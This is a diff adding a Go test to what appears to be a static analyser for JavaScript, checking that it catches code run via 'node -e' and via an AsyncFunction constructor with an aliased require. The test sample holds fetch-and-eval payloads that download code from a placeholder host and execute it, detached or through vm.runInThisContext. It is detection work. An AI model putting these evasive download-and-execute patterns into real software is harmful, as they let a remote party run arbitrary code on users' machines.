@@ -1196,3 +1196,18 @@ func TestCallPositionAfterPlainCode(t *testing.T) {
 		t.Errorf("atob call position: %+v", c)
 	}
 }
+
+// TestPayloadsRunByNode covers code handed to node on its command line
+// and to the AsyncFunction constructor with require under another name.
+func TestPayloadsRunByNode(t *testing.T) {
+	src := `require("child_process").spawn(process.execPath, ["-e", "require('https').get('https://x.example.invalid/s', r => r.on('data', d => eval(String(d))))"], { detached: true });
+const A = (async () => {}).constructor; const r = process.mainModule.require;
+new A("q", "const t = await (await fetch('https://x.example.invalid/f')).text(); q('vm').runInThisContext(t);")(r);`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	if !hasImport(f, "https") {
+		t.Errorf("node -e code not analysed: imports %+v", f.Imports)
+	}
+	if c := hasCall(f, "vm.runInThisContext"); c == nil || c.NetArg == "" {
+		t.Errorf("AsyncFunction body with require aliased: %+v", c)
+	}
+}
